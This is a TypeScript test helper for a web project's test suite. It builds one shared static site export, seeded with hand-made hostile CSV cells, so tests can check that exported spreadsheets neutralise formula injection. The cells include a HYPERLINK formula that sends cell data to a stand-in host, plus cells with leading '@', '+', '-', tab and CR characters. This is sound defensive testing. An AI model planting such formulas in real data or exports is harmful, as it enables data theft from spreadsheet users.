import fs from 'node:fs';
import path from 'node:path';
import { runCommandAsync } from './cli';
import { databaseFromImage } from './database-images';
import { withAudit } from '../../db/queries/audit';
import { importFiles, type ImportResult } from '../../server/domain/exchange/import';

/**
 * One static export of the whole public site (`npm run export:site`, three languages, about 3 400
 * pages: about 23 s of CPU since it reads the app in process, docs/performance.md) for the whole run, shared by the tests that read one:
 * test/browser/export-site.test.ts follows its links and opens it in Chromium, test/cli/csv-formulas.test.ts
 * reads its CSV files. Its database is the demonstration data with the hand-made hostile cells below
 * imported and published on top, so that the one export has both
 * what a visitor sees and what a spreadsheet must not run.
 *
 * The first test file to ask builds it, in the run's folder (TEST_DATABASE_IMAGES, see
 * test/setup/databases.ts, removed at the end of the run); a file asking meanwhile, in the other
 * worker, waits for it. A folder made with mkdir is the lock: creating one either succeeds or fails
 * at once, whichever process asks.
 */

export const FORMULA = '=HYPERLINK("http://exemple.org/?d="&A1,"Cliquez ici")';

/** Hand-made files as a user writes them: a leading tab or CR only survives behind the prefix, and `''=` is a typed `'=`. */
export const HOSTILE_INPUT: Record<string, string> = {
  'states.csv': `iso3,name_fr,name_en,party\nAFG,"'\rAfghanistan",Afghanistan,yes\nKHM,@Cambodge,Cambodia,yes\n`,
  'answers.csv':
    'year,state,indicator,answer,source,note\n' +
    `2025,AFG,10.1,yes,"${FORMULA.replace(/"/g, '""')}",-5 mines détruites\n` +
    `2025,KHM,10.1,no,+33 1 23 45,"'\tnote tabulée"\n` +
    `2025,COL,10.1,yes,''=une apostrophe tapée,'sans formule\n` +
    '2026,COL,10.1,yes,,\n',
  'figures.csv': 'year,indicator,value,denominator\n2025,5.3,12,\n2026,5.3,4.5,\n',
};

export interface CommandResult {
  status: number | null;
  stdout: string;
  stderr: string;
}

export interface SharedSite {
  /** The folder the site was written to, as given on the command line. */
  dir: string;
  /** The import of HOSTILE_INPUT into the demonstration data, published; then what `npm run export:site` printed. */
  imported: ImportResult;
  exported: CommandResult;
}

const DONE = 'done.json';
const FAILED = 'failed.txt';
const WAIT_MS = 850_000;

function runFolder(): string {
  const dir = process.env.TEST_DATABASE_IMAGES;
  if (!dir) throw new Error('TEST_DATABASE_IMAGES manque : lancez les tests par jest (test/setup/databases.ts le crée).');
  return path.join(dir, 'site-export');
}

async function build(root: string): Promise<SharedSite> {
  // The demonstration data, with the hostile cells imported on top as an upload in the workspace does
  // (`npm run import` refuses a database holding the demonstration data), then published.
  const db = databaseFromImage('demo');
  let imported: ImportResult;
  try {
    const files = Object.entries(HOSTILE_INPUT).map(([name, content]) => ({ name, content: Buffer.from(content) }));
    imported = withAudit(db, { userId: null, label: 'test', origin: 'cli' }, (tx) =>
      importFiles(tx, files, { publish: true, intoDemo: true }),
    );
    fs.writeFileSync(path.join(root, 'db.sqlite'), db.$client.serialize());
  } finally {
    db.$client.close();
  }
  const dir = path.join(root, 'public', 'site');
  const exported = imported.ok
    ? await runCommandAsync('export-site', [dir], { DATABASE_PATH: path.join(root, 'db.sqlite'), DEMO_DATA: 'off', PORT: '' })
    : { status: null, stdout: '', stderr: 'import refusé' };
  return { dir, imported, exported };
}

/** The run's static export, built by the first caller. */
export async function sharedSite(): Promise<SharedSite> {
  const root = runFolder();
  let mine = false;
  try {
    fs.mkdirSync(root);
    mine = true;
  } catch (error) {
    if ((error as NodeJS.ErrnoException).code !== 'EEXIST') throw error;
  }
  if (mine) {
    try {
      const site = await build(root);
      // Written whole, then renamed: a waiting process never reads half of it.
      fs.writeFileSync(path.join(root, `${DONE}.part`), JSON.stringify(site));
      fs.renameSync(path.join(root, `${DONE}.part`), path.join(root, DONE));
      return site;
    } catch (error) {
      fs.writeFileSync(path.join(root, FAILED), String((error as Error).stack ?? error));
      throw error;
    }
  }
  const deadline = Date.now() + WAIT_MS;
  while (Date.now() < deadline) {
    if (fs.existsSync(path.join(root, DONE))) return JSON.parse(fs.readFileSync(path.join(root, DONE), 'utf8')) as SharedSite;
    if (fs.existsSync(path.join(root, FAILED)))
      throw new Error(`L’export partagé a échoué : ${fs.readFileSync(path.join(root, FAILED), 'utf8')}`);
    await new Promise((resolve) => setTimeout(resolve, 500));
  }
  throw new Error(`L’export partagé n’est pas prêt après ${WAIT_MS / 1000} s (${root}).`);
}
